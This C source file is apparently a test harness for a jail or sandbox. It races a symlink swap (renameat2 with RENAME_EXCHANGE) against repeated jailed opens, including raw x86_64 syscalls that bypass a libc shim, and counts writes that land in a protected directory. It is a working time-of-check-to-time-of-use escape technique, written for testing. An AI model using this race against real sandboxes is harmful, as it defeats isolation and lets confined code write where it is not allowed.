/*
 * racer — the symlink-swap race against a jailed open, both sides.
 *
 *   racer swap DIR SECONDS   (unjailed) exchange DIR/x, a real directory,
 *                            with DIR/xlink, a symlink to a protected
 *                            directory, as fast as it can, for SECONDS
 *   racer open DIR COUNT     (jailed) open DIR/x/file for writing COUNT times
 *                            and write a byte each time it opens; prints how
 *                            many opens succeeded and how many were refused
 *   racer open-raw DIR COUNT the same with the open as a raw system call (x86_64),
 *                            past libc and the shim: the supervisor's side
 *
 * Whatever lands in the protected directory is an open the jail decided on
 * one object and performed on another.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

/* openat(2) as a syscall instruction: no libc wrapper, no shim */
static int raw_open(const char *path, int flags, int mode)
{
#if defined(__x86_64__)
	long ret;
	register long r10 __asm__("r10") = mode;
	__asm__ volatile("syscall"
	                 : "=a"(ret)
	                 : "a"(SYS_openat), "D"(AT_FDCWD), "S"(path), "d"(flags), "r"(r10)
	                 : "rcx", "r11", "memory");
	if (ret < 0) {
		errno = (int)-ret;
		return -1;
	}
	return (int)ret;
#else
	return open(path, flags, mode);
#endif
}

int main(int argc, char **argv)
{
	char x[4096], link[4096], file[4096];
	if (argc != 4)
		return 2;
	snprintf(x, sizeof(x), "%s/x", argv[2]);
	snprintf(link, sizeof(link), "%s/xlink", argv[2]);
	snprintf(file, sizeof(file), "%s/x/file", argv[2]);
	if (strcmp(argv[1], "swap") == 0) {
		time_t end = time(NULL) + atoi(argv[3]);
		long swaps = 0;
		while (time(NULL) < end)
			for (int i = 0; i < 1000; i++, swaps++)
				if (renameat2(AT_FDCWD, x, AT_FDCWD, link, RENAME_EXCHANGE) != 0)
					return 1;
		/* leave x a directory again */
		if (swaps % 2 && renameat2(AT_FDCWD, x, AT_FDCWD, link, RENAME_EXCHANGE) != 0)
			return 1;
		printf("swaps %ld\n", swaps);
		return 0;
	}
	long opened = 0, refused = 0, other = 0, n = atol(argv[3]);
	int raw = strcmp(argv[1], "open-raw") == 0;
	for (long i = 0; i < n; i++) {
		int fd = raw ? raw_open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644)
		             : open(file, O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
		if (fd >= 0) {
			opened++;
			if (write(fd, "x", 1) != 1)
				other++;
			close(fd);
		} else if (errno == EACCES) {
			refused++;
		} else {
			other++;
		}
	}
	printf("opened %ld refused %ld other %ld\n", opened, refused, other);
	return 0;
}
